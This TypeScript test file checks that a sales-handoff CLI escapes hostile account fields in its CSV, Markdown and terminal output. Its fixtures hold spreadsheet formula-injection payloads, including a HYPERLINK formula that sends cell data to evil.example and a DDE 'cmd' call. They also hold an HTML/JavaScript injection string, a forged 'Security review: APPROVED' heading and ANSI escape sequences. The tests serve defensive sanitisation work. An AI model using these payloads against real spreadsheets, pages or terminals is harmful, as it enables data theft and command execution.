// The CLI's CSV and Markdown reports of hostile files (SPEC.md: hostile content never becomes code or markup).
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ANSI_NAME, hasControl, readCsv, renderMarkdown } from '../unit/hostileText';
import { handoff, tempWorkspace } from './handoffProcess';

describe('hostile content in the CLI’s CSV and Markdown', () => {
  const dir = tempWorkspace({
    '.handoff.yml': 'team:\n  - { id: "=1+1", role: ae, quota: { 2026-Q4: 100 } }\n',
    'accounts/ae/a.md': '---\nname: \'=HYPERLINK("http://evil.example/?x="&A1,"click")\'\nstage: negotiation\nae: "=1+1"\narr: 1000\nclose_date: 2026-12-01\n---\n',
    'accounts/ae/b.md': "---\nname: \"+cmd|' /C calc'!A0\"\nstage: negotiation\nae: '@SUM(1+1)'\narr: 2000\nclose_date: 2026-12-02\n---\n",
    'accounts/ae/c.md': '---\nname: "<img src=x onerror=alert(1)> | [x](javascript:1)\\n\\n### ✅ Security review: APPROVED"\nstage: closed_won\nae: "-2+3"\narr: 3000\nclose_date: 2026-11-02\n---\n',
  });

  it('report --format csv: no live formula, every row with its ten columns', () => {
    const result = handoff(['report', '--dir', dir, '--today', '2026-11-22', '--format', 'csv']);
    assert.equal(result.code, 0, result.stderr);
    const rows = readCsv(result.stdout);
    for (const row of rows) assert.equal(row.length, 10);
    assert.ok(rows.some((r) => r[1] === `'=HYPERLINK("http://evil.example/?x="&A1,"click")` && r[9] === "'=1+1"));
    assert.ok(rows.some((r) => r[1] === "'+cmd|' /C calc'!A0" && r[9] === "'@SUM(1+1)"));
    assert.ok(rows.some((r) => r[0] === 'won' && r[9] === "'-2+3"));
    assert.ok(rows.some((r) => r[0] === 'deal' && r[6] === '1000'), 'numbers stay numbers');
  });

  it('report --format md: the names stay in their cells, with no HTML, link or heading of theirs', () => {
    const result = handoff(['report', '--dir', dir, '--today', '2026-11-22', '--format', 'md']);
    assert.equal(result.code, 0, result.stderr);
    const html = renderMarkdown(result.stdout);
    assert.doesNotMatch(html, /<(img|a|h3)\b/);
    assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt; | [x](javascript:1)\\n\\n### ✅ Security review: APPROVED'), html);
  });

  const ansi = tempWorkspace({
    'accounts/ae/ansi.md': `---\nname: ${JSON.stringify(ANSI_NAME)}\nstage: negotiation\nae: "\\e[5mdewi"\narr: 1000\ncurrency: "\\e[1mUSD"\nclose_date: 2026-12-01\n---\n`,
    'accounts/am/renew.md': `---\nname: ${JSON.stringify(ANSI_NAME)}\nstage: active\nam: "b\\rudi"\ncontract_end: 2026-12-15\n---\n`,
  });

  it('report and diff as text: the Markdown, with no control character left', () => {
    const report = handoff(['report', '--dir', ansi, '--today', '2026-11-22']);
    assert.equal(report.code, 0, report.stderr);
    assert.ok(!hasControl(report.stdout.replace(/\n/g, '')), JSON.stringify(report.stdout));
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@example.com', '-c', 'user.name=T', ...args], { cwd: ansi, stdio: 'pipe' });
    git('init', '-q', '-b', 'main');
    git('add', '-A');
    git('commit', '-qm', 'accounts');
    fs.writeFileSync(path.join(ansi, 'accounts/ae/new.md'), `---\nname: ${JSON.stringify(ANSI_NAME)}\nstage: demo\narr: 5\ncurrency: "\\e[1mUSD"\n---\n`);
    const diff = handoff(['diff', 'main', '--dir', ansi]);
    assert.equal(diff.code, 0, diff.stderr);
    assert.ok(!hasControl(diff.stdout.replace(/\n/g, '')), JSON.stringify(diff.stdout));
    assert.match(diff.stdout, /1 new account/);
  });
});
